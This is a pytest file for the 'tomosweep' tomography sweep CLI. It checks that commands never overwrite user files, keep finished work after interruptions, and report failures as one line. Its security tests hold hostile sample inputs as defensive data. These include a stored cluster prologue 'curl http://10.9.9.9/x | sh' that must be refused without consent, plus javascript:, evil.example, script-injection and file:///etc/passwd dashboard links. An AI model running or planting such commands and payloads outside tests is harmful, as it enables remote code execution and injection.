"""The newer commands (export, plan, replicate, reconstruct-data, resume, view) as a hostile or
unlucky user meets them: nothing the user wrote is replaced, what finished is kept, what went
wrong is one clear line, and nobody else gets in.

Each case asserts the exit status, the one line, and that nothing was lost or replaced. The
CLI runs in-process through its entry point (``main``), as in ``test_bad_inputs``.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import re
import socket
import subprocess
import sys
import time
import warnings
from pathlib import Path

import numpy as np
import pytest
import trial_hooks
import zarr
from sweep_support import run_cli, tiny_study

from tomosweep.cluster.connect import Connection
from tomosweep.errors import InputError
from tomosweep.microscope.plan import plan, replicate_key
from tomosweep.results import SweepStore
from tomosweep.results.folders import MANIFEST, StagedOutput, check_out_folder, read_manifest
from tomosweep.sweep import study_from_dict
from tomosweep.sweep.api import create_store, run_study
from tomosweep.view.heartbeat import LIVE_FORMAT, live_path, read_live, write_live
from tomosweep.view.page import status_html


def _one_error_line(code, out, err, *, expect: str, status: int = 2) -> str:
    text = out + err
    assert code == status, text
    lines = [line for line in err.splitlines() if line.strip()]
    errors = [line for line in lines if line.startswith("error:")]
    assert len(errors) == 1, text
    assert "Traceback" not in text
    assert expect in errors[0], errors[0]
    return errors[0]


def _tree(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and p.name != ".tomosweep.lock"
    }


@pytest.fixture(scope="module")
def store(client, tmp_path_factory):
    """A finished tiny study (synthetic trials): every cell of both methods has a best."""
    path = tmp_path_factory.mktemp("hostile") / "s.zarr"
    run_study(study_from_dict(tiny_study()), path, client=client, trial_fn=trial_hooks.synthetic_trial)
    return path


@pytest.fixture()
def use_client(client, monkeypatch):
    """Commands that open their own cluster get the test's instead (replicate, resume)."""

    @contextlib.contextmanager
    def connect(study, given):
        yield Connection(client=given or client, backend="address", description="the test's client")

    monkeypatch.setattr("tomosweep.sweep.api.connect_study", connect)
    monkeypatch.setattr("tomosweep.microscope.replicate.connect_study", connect)


# ------------------------------------------------------------------ nothing the user wrote is replaced


def test_reconstruct_data_overwrite_never_replaces_the_users_volumes(tmp_path, capsys):
    out = tmp_path / "recon"
    out.mkdir()
    (out / "reconstruction.json").write_text('{"written_by": "tomosweep"}')  # a mark copied in
    (out / "volumes.npz").write_bytes(b"the user's own volumes")
    before = _tree(tmp_path)
    (tmp_path / "d.toml").write_text("[chem]\n")
    code, o, e = run_cli(["reconstruct-data", tmp_path / "d.toml", "--out", out, "--overwrite"], capsys)
    _one_error_line(code, o, e, expect="not write")
    assert "iterations" not in e  # no progress bar before a refusal
    assert _tree(tmp_path) == {**before, "d.toml": b"[chem]\n"}


def test_a_manifest_vouches_only_for_unchanged_files(tmp_path):
    out = tmp_path / "recon"
    with StagedOutput(out, command="reconstruct-data", replace_all=True) as staged:
        (staged.stage / "volumes.npz").write_bytes(b"tomosweep's")
        staged.commit()
    assert check_out_folder(out, overwrite=True) == out  # an earlier output: replaceable
    (out / "volumes.npz").write_bytes(b"edited by the user")
    with pytest.raises(Exception, match="did not write \\(or changed since\\): volumes.npz"):
        check_out_folder(out, overwrite=True)
    assert (out / "volumes.npz").read_bytes() == b"edited by the user"


def test_staged_output_replaces_its_own_files_and_nothing_else(tmp_path):
    out = tmp_path / "recon"
    with StagedOutput(out, command="reconstruct-data", replace_all=True) as staged:
        for name in ("a.tif", "b.tif"):
            (staged.stage / name).write_text(name)
        staged.commit()
    (out / "notes.txt").write_text("mine")
    with StagedOutput(out, command="reconstruct-data", replace_all=True) as staged:
        (staged.stage / "a.tif").write_text("new")
        staged.commit()
    assert (out / "a.tif").read_text() == "new" and not (out / "b.tif").exists()  # the earlier output, whole
    assert (out / "notes.txt").read_text() == "mine"
    assert set(read_manifest(out)) == {"a.tif"}
    assert not list(tmp_path.glob(".recon.partial-*"))


def test_an_interrupted_staged_output_leaves_the_target_as_it_was(tmp_path):
    out = tmp_path / "recon"
    with pytest.raises(KeyboardInterrupt), StagedOutput(out, command="reconstruct-data") as staged:
        (staged.stage / "volumes.npz").write_text("half")
        raise KeyboardInterrupt
    assert not out.exists() and not list(tmp_path.iterdir())


def test_export_overwrite_never_replaces_a_file_it_did_not_write(store, tmp_path, capsys):
    out = tmp_path / "exports"
    out.mkdir()
    (out / "trials.csv").write_text("the user's own table")
    before = _tree(tmp_path)
    code, o, e = run_cli(["export", store, "--out", out, "--overwrite"], capsys)
    _one_error_line(code, o, e, expect="never replaced, even with --overwrite")
    assert _tree(tmp_path) == before
    assert not list(tmp_path.glob(".exports.partial-*"))


def test_export_overwrite_replaces_an_earlier_export_but_not_an_edited_file(store, tmp_path, capsys):
    out = tmp_path / "exports"
    assert run_cli(["export", store, "--out", out], capsys)[0] == 0
    assert "trials.csv" in read_manifest(out)
    assert run_cli(["export", store, "--out", out, "--overwrite"], capsys)[0] == 0
    (out / "best_params.csv").write_text("edited")
    code, o, e = run_cli(["export", store, "--out", out, "--overwrite"], capsys)
    _one_error_line(code, o, e, expect="best_params.csv, not written by tomosweep (or changed since)")
    assert (out / "best_params.csv").read_text() == "edited"


def test_export_on_a_read_only_disk_fails_before_any_work(store, tmp_path, capsys, monkeypatch):
    def read_only(*args, **kwargs):
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr("tomosweep.results.folders.tempfile.mkstemp", read_only)
    monkeypatch.setattr("tomosweep.results.export.trials_frame", lambda s: pytest.fail("work started"))
    code, o, e = run_cli(["export", store, "--out", tmp_path / "x"], capsys)
    _one_error_line(code, o, e, expect="cannot write in")
    assert "read-only file system" in e and not list(tmp_path.iterdir())


def test_export_on_a_full_disk_fails_before_any_work(store, tmp_path, capsys, monkeypatch):
    import collections

    usage = collections.namedtuple("usage", "total used free")
    monkeypatch.setattr("tomosweep.results.folders.shutil.disk_usage", lambda p: usage(10, 10, 1024**2))
    code, o, e = run_cli(["export", store, "--out", tmp_path / "x"], capsys)
    _one_error_line(code, o, e, expect="only 1 MiB free on its disk")
    assert not list(tmp_path.iterdir())


def test_disk_full_during_export_is_one_line_and_leaves_no_partial_folder(store, tmp_path, capsys, monkeypatch):
    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", str(tmp_path / "x" / "nrmse_heatmap.png"))

    monkeypatch.setattr("tomosweep.results.export.heatmap_figure", full)
    code, o, e = run_cli(["export", store, "--out", tmp_path / "x"], capsys)
    _one_error_line(code, o, e, expect="no space left on the device")
    assert not list(tmp_path.iterdir())  # neither the folder nor its staging copy


# ------------------------------------------------------------------ plan


def test_plan_figure_into_a_missing_folder_is_refused_before_work(store, tmp_path, capsys):
    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "no" / "f.png"], capsys)
    _one_error_line(code, o, e, expect="does not exist; create it first")
    assert not (tmp_path / "no").exists()


def test_plan_figure_with_an_unknown_format_is_refused(store, tmp_path, capsys):
    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "f.xyz"], capsys)
    _one_error_line(code, o, e, expect="unknown figure format '.xyz'")
    assert not list(tmp_path.iterdir())


def test_plan_figure_without_suffix_reports_the_file_it_wrote(store, tmp_path, capsys):
    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "frontier"], capsys)
    assert code == 0, o + e
    assert f"frontier figure: {tmp_path / 'frontier.png'}" in o
    assert (tmp_path / "frontier.png").read_bytes()[:4] == b"\x89PNG"


def test_plan_figure_onto_a_folder_is_refused(store, tmp_path, capsys):
    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path], capsys)
    _one_error_line(code, o, e, expect="is a folder; give a file name")


def test_plan_never_replaces_the_users_picture(store, tmp_path, capsys):
    (tmp_path / "f.png").write_bytes(b"a photo of the microscope")
    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "f.png"], capsys)
    _one_error_line(code, o, e, expect="never replaced")
    assert (tmp_path / "f.png").read_bytes() == b"a photo of the microscope"


def test_plan_replaces_its_own_figure(store, tmp_path, capsys):
    for _ in range(2):
        code, o, e = run_cli(["plan", store, "--target", "1", "--figure", tmp_path / "f.svg"], capsys)
        assert code == 0, o + e
    assert (tmp_path / "f.svg").read_text().lstrip().startswith("<?xml")


def test_plan_dot_inside_the_store_draws_beside_it(store, capsys, monkeypatch):
    monkeypatch.chdir(store)
    code, o, e = run_cli(["plan", ".", "--target", "1", "--method", "sirt"], capsys)
    assert code == 0, o + e
    assert (store.parent / "s_plan_sirt.png").is_file()


def test_plan_on_a_read_only_store_folder_is_one_line(store, capsys, monkeypatch):
    def read_only(*args, **kwargs):
        raise OSError(errno.EACCES, "Permission denied")

    monkeypatch.setattr("tomosweep.results.folders.tempfile.mkstemp", read_only)
    code, o, e = run_cli(["plan", store, "--target", "1", "--figure", store.parent / "ro.png"], capsys)
    _one_error_line(code, o, e, expect="permission denied")
    assert not (store.parent / "ro.png").exists()


def _with_replicates(path: Path, tmp_path: Path, entries) -> Path:
    import shutil

    copy = tmp_path / "r.zarr"
    shutil.copytree(path, copy)
    group = zarr.open_group(copy, mode="r+")
    group.attrs["replicates"] = entries
    return copy


@pytest.mark.parametrize(
    "entry",
    [
        {"nrmse": "junk"},
        {"nrmse": [0.1, "x"], "params": {"n_iter": 3}},
        {"nrmse": [0.1, True], "params": {"n_iter": 3}},
        {"nrmse": [0.1, -5.0], "params": {"n_iter": 3}},
        "not a table",
    ],
    ids=["string", "text-value", "boolean", "negative", "not-a-table"],
)
def test_plan_with_malformed_replicates_ignores_them_in_one_word(store, tmp_path, capsys, entry):
    copy = _with_replicates(store, tmp_path, {"sirt/5/3": entry})
    code, o, e = run_cli(["plan", copy, "--target", "10", "--method", "sirt", "--figure", tmp_path / "f.png"], capsys)
    assert code == 0 and "Traceback" not in o + e, o + e
    assert "malformed replicate entry" in o.replace("\n", " ") or "tomosweep replicate" in o


def test_plan_never_shows_replicates_of_other_weights(store, tmp_path):
    with SweepStore.open(store) as opened:
        i, j = opened.cell_index(5, 3)
        best = float(opened.maps("sirt")["best_params"][i, j, opened.param_names.index("n_iter")])
    current = {"params": {"n_iter": best}, "nrmse": [0.5, 0.6, 0.7], "noise_seeds": [1, 2, 3], "chem_snr_scale": 1.0}
    old = {"params": {"n_iter": best + 1}, "nrmse": [0.01, 0.02], "noise_seeds": [1, 2], "chem_snr_scale": 1.0}
    copy = _with_replicates(store, tmp_path, {"sirt/5/3": current, "sirt/9/3": old})
    with SweepStore.open(copy) as opened:
        rows = {(r.n_haadf, r.n_chem): r for r in plan(opened, 10.0, method="sirt")}
    assert rows[(5, 3)].mean == pytest.approx(0.6) and rows[(5, 3)].n_replicates == 3
    assert rows[(9, 3)].mean is None and rows[(9, 3)].replicates_unused.startswith("stale")
    assert rows[(9, 3)].value == rows[(9, 3)].best  # the optimised best, not the old weights' mean


# ------------------------------------------------------------------ replicate: keep what finished


def test_interrupted_replicate_keeps_every_finished_replicate_and_continues(store, tmp_path, use_client):
    import shutil

    from tomosweep.microscope.replicate import replicate_cells

    copy = tmp_path / "s.zarr"
    shutil.copytree(store, copy)
    seen = []

    def stop_after_first(record):
        seen.append(record)
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        replicate_cells(copy, method="sirt", cells=[(5, 3)], seeds=3, on_result=stop_after_first)
    with SweepStore.open(copy) as opened:
        kept = opened.replicates()[replicate_key("sirt", 5, 3)]
    assert len(kept["nrmse"]) == 1 and kept["nrmse"][0] == pytest.approx(seen[0].nrmse), (kept, seen)
    assert kept["complete"] is False
    ran = []
    result = replicate_cells(copy, method="sirt", cells=[(5, 3)], seeds=3, on_result=ran.append)
    assert len(ran) == 2, "the same command runs only the missing replicates"
    entry = result[replicate_key("sirt", 5, 3)]
    assert entry["replicate"] == [1, 2, 3] and entry["complete"]
    finished_first = kept["replicate"][0]
    assert entry["nrmse"][finished_first - 1] == kept["nrmse"][0]  # kept, not recomputed


def test_interrupted_replicate_names_the_replicate_command(store, capsys, monkeypatch):
    def interrupted(*args, on_plan=None, **kwargs):
        on_plan(6, 1)
        raise KeyboardInterrupt

    monkeypatch.setattr("tomosweep.cli.microscope.replicate_cells", interrupted)
    code, o, e = run_cli(["replicate", store, "--method", "sirt", "--seeds", "3", "--cell", "5,3"], capsys)
    assert code == 130, o + e
    assert "every finished replicate is stored" in e
    assert f"continue with `tomosweep replicate {store} --method sirt --seeds 3 --cell 5,3`" in e
    assert "resume" not in e and "STORE" not in e


def test_disk_full_during_replicate_is_one_line_and_keeps_the_finished(
    store, tmp_path, capsys, use_client, monkeypatch
):
    import shutil

    copy = tmp_path / "s.zarr"
    shutil.copytree(store, copy)
    real = SweepStore.record_replicates
    calls = []

    def fills_up(self, key, entry):
        calls.append(key)
        if len(calls) > 1:
            raise OSError(errno.ENOSPC, "No space left on device", str(copy / "zarr.json"))
        real(self, key, entry)

    monkeypatch.setattr(SweepStore, "record_replicates", fills_up)
    code, o, e = run_cli(["replicate", copy, "--method", "sirt", "--seeds", "2", "--cell", "5,3"], capsys)
    line = _one_error_line(code, o, e, expect="no space left on the device")
    assert f"continue with `tomosweep replicate {copy}" in line
    monkeypatch.setattr(SweepStore, "record_replicates", real)
    with SweepStore.open(copy) as opened:
        assert len(opened.replicates()[replicate_key("sirt", 5, 3)]["nrmse"]) == 1


# ------------------------------------------------------------------ nobody else in


@pytest.fixture()
def received(tmp_path):
    """Stores as a stranger might send them: a scheduler address, a batch backend with a prologue."""
    stores = {}
    for name, cluster in {
        "address": {"backend": "address", "address": "tcp://10.9.9.9:8786"},
        "slurm": {"backend": "slurm", "prologue": ["curl http://10.9.9.9/x | sh"], "cores": 1, "memory": "1GB"},
    }.items():
        study = study_from_dict(tiny_study(cluster=cluster))
        path = tmp_path / f"{name}.zarr"
        create_store(study, path).close()
        stores[name] = path
    return stores


@pytest.mark.parametrize("kind", ["address", "slurm"])
@pytest.mark.parametrize("command", ["resume", "replicate"])
def test_a_stored_remote_cluster_is_refused_without_consent(received, capsys, monkeypatch, kind, command):
    for module in ("tomosweep.sweep.api", "tomosweep.microscope.replicate"):
        monkeypatch.setattr(f"{module}.connect_study", lambda *a: pytest.fail("connected unasked"))
    before = _tree(received[kind].parent)
    code, o, e = run_cli([command, received[kind]], capsys)
    _one_error_line(code, o, e, expect="not used without consent: pass --trust-stored-cluster")
    assert ("10.9.9.9:8786" if kind == "address" else "curl http://10.9.9.9/x | sh") in e  # shown in full
    assert _tree(received[kind].parent) == before


class _Reached(Exception):
    pass


def _would_connect(study, client):
    raise _Reached(study.cluster.backend)


@pytest.mark.parametrize(
    ("flags", "backend"), [(["--trust-stored-cluster"], "address"), (["--cluster", "local"], "local")]
)
def test_consent_or_a_named_cluster_lets_resume_connect(received, capsys, monkeypatch, flags, backend):
    monkeypatch.setattr("tomosweep.sweep.api.connect_study", _would_connect)
    with pytest.raises(_Reached, match=f"^{backend}$"):
        run_cli(["resume", received["address"], *flags], capsys)


def test_a_local_stored_cluster_needs_no_consent(store, capsys, monkeypatch):
    from tomosweep.cli.common import consent_to_stored_cluster

    consent_to_stored_cluster(store, trust=False)  # no error, no prompt
    assert "beyond this machine" not in capsys.readouterr().err


def test_a_junk_heartbeat_cannot_break_the_view_nor_fake_a_link(store, tmp_path):
    import shutil

    copy = tmp_path / "s.zarr"
    shutil.copytree(store, copy)
    live_path(copy).write_text(
        json.dumps(
            {
                "format": LIVE_FORMAT,
                "pid": os.getpid(),
                "host": socket.gethostname(),
                "updated": time.time(),
                "state": "running",
                "workers": "many",
                "threads": -3,
                "running": {"not/a cell": 1, "fused/5/3": "x", "sirt/5/3": 2},
                "budget": 1e300,
                "dashboard": "javascript:alert(1)",
            }
        )
    )
    live = read_live(copy)
    assert live["running"] == {"sirt/5/3": 2} and "workers" not in live and live["dashboard"] is None
    from tomosweep.view.snapshot import StoreReader

    snap = StoreReader(copy).read()
    page = status_html(snap)
    assert "javascript" not in page and "<a " not in page
    assert snap.running() == {("sirt", 5, 3): 2}


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "http://evil.example/status",
        'http://127.0.0.1:8787/"><script>',
        "http://user:pw@127.0.0.1:1/",
        "file:///etc/passwd",
    ],
)
def test_the_dashboard_link_is_local_http_only(link):
    from tomosweep.view.heartbeat import local_link

    assert local_link(link) is None
    assert local_link("http://127.0.0.1:8787/status") == "http://127.0.0.1:8787/status"
    assert local_link("https://[::1]:8787/status") == "https://[::1]:8787/status"


def test_a_forged_running_heartbeat_of_a_dead_process_reads_as_gone(tmp_path):
    from tomosweep.view.heartbeat import driver_state

    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    live = {"pid": dead.pid, "host": socket.gethostname(), "updated": time.time(), "state": "running"}
    assert driver_state(live, time.time()) == "gone"


@pytest.mark.parametrize("junk", [b"\xff\xfe not json", b"[1, 2]", b'{"format": "tomosweep-live", "updated": "x"}'])
def test_junk_heartbeat_files_read_as_none_or_plain(tmp_path, junk):
    from tomosweep.view.heartbeat import driver_state

    live_path(tmp_path / "s.zarr").write_bytes(junk)
    live = read_live(tmp_path / "s.zarr")
    assert live is None or driver_state(live, time.time()) in ("running", "gone", "unknown")


def test_the_heartbeat_is_never_written_through_a_symlink(tmp_path):
    from tomosweep.view.heartbeat import Heartbeat

    target = tmp_path / "victim.txt"
    target.write_text("precious")
    store = tmp_path / "s.zarr"
    live_path(store).symlink_to(target)
    beat = Heartbeat(store, client=None, budget=4, interval_s=0.01).start()
    beat.stop(finished=True)
    assert target.read_text() == "precious" and live_path(store).is_symlink()
    # a link planted at the temporary name is removed, not followed
    tmp = live_path(store).with_name(f".{live_path(store).name}.{os.getpid()}.tmp")
    live_path(store).unlink()
    tmp.symlink_to(target)
    write_live(store, {"state": "finished"})
    assert target.read_text() == "precious" and read_live(store)["state"] == "finished"


def test_view_accepts_the_ipv6_loopback(store):
    from tomosweep.cli.view import serve_view

    try:
        with socket.socket(socket.AF_INET6) as probe:
            probe.bind(("::1", 0))
    except OSError:
        pytest.skip("this machine has no IPv6 loopback")
    import urllib.request

    server = serve_view(store, host="::1", port=0)
    try:
        assert server.url.startswith("http://localhost:")  # the name Bokeh's origin check accepts
        port = server.url.rsplit(":", 1)[1].strip("/")
        with urllib.request.urlopen(f"http://[::1]:{port}/", timeout=30) as page:
            assert page.status == 200
    finally:
        server.stop()


# ------------------------------------------------------------------ messages


def test_notes_keep_their_brackets(capsys, monkeypatch, tmp_path):
    from types import SimpleNamespace

    summary = SimpleNamespace(
        notes=["no [chem.sensitivity] given"], heldout=None, out=tmp_path / "[r]", files=["a.npz"], wall_time_s=1.0
    )
    monkeypatch.setattr("tomosweep.cli.microscope.reconstruct_data_into", lambda *a, **k: summary)
    code, o, e = run_cli(["reconstruct-data", "d.toml", "--out", tmp_path / "[r]"], capsys)
    assert code == 0, o + e
    assert "note: no [chem.sensitivity] given" in o and f"wrote {tmp_path / '[r]'}: a.npz" in o


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ('lambda_haadf = "abc"', "lambda_haadf must be a number, not 'abc'"),
        ("n_iter = 2.5", "n_iter is a whole number of iterations (got 2.5)"),
        ("lambda_tv = 0", "lambda_tv must be a finite number > 0"),
        ("lambda_tv = 1e12", "lambda_tv = 1e+12 is beyond 1e+06"),
        ("n_iter = true", "n_iter must be a number, not True"),
    ],
    ids=["text", "fractional-iterations", "zero", "huge", "boolean"],
)
def test_bad_hand_given_weights_are_one_line(tmp_path, capsys, line, message):
    np.savez(tmp_path / "o.npz", maps=np.ones((3, 8, 8)), angles=[-30.0, 0.0, 30.0])
    (tmp_path / "d.toml").write_text(f'[chem]\n[chem.elements]\nO = "o.npz"\n[weights]\nmethod = "fused"\n{line}\n')
    from tomosweep.sweep.weights import checked_weights

    table = __import__("tomllib").loads(line)
    with pytest.raises(InputError, match="^" + re.escape(f"[weights] {message}")):
        checked_weights("fused", table)


def test_os_errors_are_one_line_that_names_the_file():
    from tomosweep.cli import _os_error_line
    from tomosweep.cli.common import CliState

    assert _os_error_line(OSError(errno.EROFS, "x", "/data/out"), CliState()) == (
        "the file system is read-only (/data/out); nothing was written"
    )


def test_warnings_of_dependencies_stay_off_the_terminal(capsys):
    import logging

    from tomosweep.cli import dependency_warnings_to_log

    with warnings.catch_warnings(record=True) as shown:
        warnings.simplefilter("default")
        dependency_warnings_to_log()
        warnings.warn("mrcfile: the header's map size is odd", UserWarning, stacklevel=1)
        logging.captureWarnings(False)
    assert shown == [] and "mrcfile" not in capsys.readouterr().err


def test_piped_output_never_wraps_a_long_path(store, tmp_path):
    deep = tmp_path / ("a-rather-long-folder-name-" * 4) / "exports"
    result = subprocess.run(
        [sys.executable, "-m", "tomosweep.cli", "export", str(store), "--out", str(deep)],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "80"},
    )
    assert result.returncode == 0, result.stderr
    assert str(deep / "trials.csv") in result.stdout.splitlines()


def test_manifest_is_hidden_and_json(store, tmp_path, capsys):
    code, *_ = run_cli(["export", store, "--out", tmp_path / "x"], capsys)
    assert code == 0
    manifest = json.loads((tmp_path / "x" / MANIFEST).read_text())
    assert manifest["format"] == "tomosweep-outputs" and all(len(v["sha256"]) == 64 for v in manifest["files"].values())
